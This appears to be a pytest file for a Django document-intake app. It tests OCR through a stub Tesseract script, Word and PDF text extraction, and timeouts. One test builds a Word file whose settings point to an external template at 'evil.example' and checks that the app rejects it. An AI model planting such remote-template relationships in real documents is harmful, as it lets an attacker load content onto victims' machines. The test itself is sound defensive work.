"""Words of files: text layers, Word, scans by the program where it is installed; said plainly where it is not."""

import io
import stat
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from docx import Document
from PIL import Image

from tests.incoming.conftest import received
from tests.signing.builders import plain_pdf
from truongso.governance.incoming import actions, reading
from truongso.governance.incoming.kinds import TextState
from truongso.governance.incoming.models import IncomingDocument
from truongso.governance.incoming.views.documents import search_documents

SCAN = io.BytesIO()
Image.new("RGB", (300, 400), "white").save(SCAN, "PNG")


@pytest.fixture
def program(tmp_path: Path, settings: Any) -> Any:
    """Return a function that installs a stand-in for Tesseract with a body of shell."""

    def install(body: str) -> None:
        path = tmp_path / "tesseract"
        path.write_text(f"#!/bin/sh\n{body}\n")
        path.chmod(path.stat().st_mode | stat.S_IXUSR)
        settings.OCR_PROGRAM = str(path)

    return install


def found(words: str) -> int:
    return search_documents(IncomingDocument.objects.all(), words).count()


def test_a_scan_is_read_and_found(office: Any, program: Any) -> None:
    program(
        '[ "$1 $2 $3 $4" = "stdin stdout -l vie" ] || exit 9\ncat > /dev/null\necho "Thông báo về việc nghỉ học do bão"'
    )
    document = received(office, files=[("anh.png", SCAN.getvalue())])
    assert document.files.get().text_state == TextState.WAITING
    assert found("nghi hoc do bao") == 0
    assert actions.read_files(document.pk, by=None) == 1
    file = document.files.get()
    assert (file.text_state, file.text) == (TextState.READ, "Thông báo về việc nghỉ học do bão")
    assert found("nghi hoc do bao") == 1


@pytest.mark.parametrize(
    "body", ["exit 1", "sleep 5", "head -c 100000000 /dev/zero > out.bin; exit 1"], ids=["fails", "hangs", "writes"]
)
def test_a_program_that_fails_or_hangs_harms_nothing(office: Any, program: Any, settings: Any, body: str) -> None:
    settings.OCR_SECONDS = 1
    program(body)
    document = received(office, files=[("anh.png", SCAN.getvalue())])
    assert actions.read_files(document.pk, by=None) == 0
    assert document.files.get().text_state == TextState.FAILED


def test_without_the_program_the_page_says_so(office: Any, lan: Client, settings: Any) -> None:
    settings.OCR_PROGRAM = "no-such-program"
    assert "Máy chủ chưa cài Tesseract" in lan.get(reverse("incoming:receive")).content.decode()
    document = received(office, files=[("anh.png", SCAN.getvalue())])
    actions.read_files(document.pk, by=None)
    page = lan.get(document.get_absolute_url()).content.decode()
    assert "Máy chủ chưa cài Tesseract nên chưa nhận dạng được chữ." in page
    again = lan.post(reverse("incoming:read_again", args=[document.uid]), follow=True).content.decode()
    assert "Máy chủ chưa cài Tesseract (gói tesseract-ocr và tesseract-ocr-vie)." in again


def test_word_and_pdf_are_read_without_the_program(office: Any, settings: Any) -> None:
    settings.OCR_PROGRAM = ""
    word = io.BytesIO()
    made = Document()
    made.add_paragraph("Biên bản làm việc của đoàn kiểm tra")
    made.save(word)
    document = received(office, files=[("bb.docx", word.getvalue()), ("cv.pdf", plain_pdf("Đăng ký thi đua"))])
    assert actions.read_files(document.pk, by=None) == 2
    assert found("doan kiem tra") == found("dang ky thi dua") == 1


def test_a_long_scan_is_read_up_to_the_limit(office: Any, program: Any, settings: Any) -> None:
    settings.OCR_PAGES = 2
    program("cat > /dev/null; echo trang")
    pages = io.BytesIO()
    sheet = Image.new("L", (200, 300), 255)
    sheet.save(pages, "PDF", save_all=True, append_images=[sheet, sheet])
    document = received(office, files=[("quet.pdf", pages.getvalue())])
    actions.read_files(document.pk, by=None)
    assert document.files.get().text == "trang trang"
    assert reading.program() is not None


def test_a_word_file_with_a_template_from_outside_is_refused_or_noted(office: Any) -> None:
    import zipfile

    word = io.BytesIO()
    Document().save(word)
    harmful = io.BytesIO()
    with zipfile.ZipFile(word) as source, zipfile.ZipFile(harmful, "w") as target:
        for entry in source.infolist():
            target.writestr(entry.filename, source.read(entry))
        target.writestr(
            "word/_rels/settings.xml.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        )
    document = received(office, channel="email", external_id="<x@y>", files=[("mau.docx", harmful.getvalue())])
    file = document.files.get()
    assert file.blob is None
    assert file.strange == (
        "Không nhận «mau.docx»: tệp tự tải nội dung từ địa chỉ ngoài khi mở, hãy xuất ra PDF rồi nộp."
    )
